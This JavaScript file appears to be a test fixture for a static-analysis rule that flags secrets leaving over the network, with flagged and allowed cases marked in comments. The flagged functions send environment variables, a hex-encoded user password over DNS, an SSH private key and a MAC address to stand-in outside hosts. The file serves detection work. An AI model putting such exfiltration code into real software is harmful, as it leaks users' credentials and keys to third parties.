const https = require('https');
const dns = require('dns');
const fs = require('fs');
const os = require('os');
const dgram = require('dgram');

function report() {
  const body = JSON.stringify({ e: process.env, h: os.hostname() });
  const r = https.request({ host: 'stats.example.net', method: 'POST' });
  // ruleid: js-secret-leaves-by-network
  r.end(body);
}

function ask(user) {
  const label = Buffer.from(user.password).toString('hex');
  // ruleid: js-secret-leaves-by-network
  dns.lookup(label + '.t.example.org', () => {});
}

async function keys() {
  const k = fs.readFileSync('/home/app/.ssh/id_rsa', 'utf8');
  // ruleid: js-secret-leaves-by-network
  await fetch('https://198.51.100.4/c', { method: 'POST', body: k });
}

function mac() {
  const s = dgram.createSocket('udp4');
  const m = os.networkInterfaces().eth0[0].mac;
  // ruleid: js-secret-leaves-by-network
  s.send(m, 5353, '203.0.113.8');
}

function page(n) {
  // ok: js-secret-leaves-by-network
  return fetch('/api/page/' + n);
}

function local() {
  // ok: js-secret-leaves-by-network
  console.log(process.env.HOME);
}

function name(host) {
  // ok: js-secret-leaves-by-network
  dns.lookup(host, () => {});
}

function order(params, pay) {
  const mark = pay.generateSignature(params, process.env.MERCHANT_KEY);
  const r = https.request({ host: 'pay.example.com', method: 'POST' });
  // ok: js-secret-leaves-by-network
  r.write(JSON.stringify({ params, mark }));
}

function chained(params, pay, options) {
  return pay
    .generateSignature(params, process.env.MERCHANT_KEY)
    .then(function (mark) {
      const r = https.request(options);
      // ok: js-secret-leaves-by-network
      r.write(JSON.stringify({ params, mark }));
    });
}
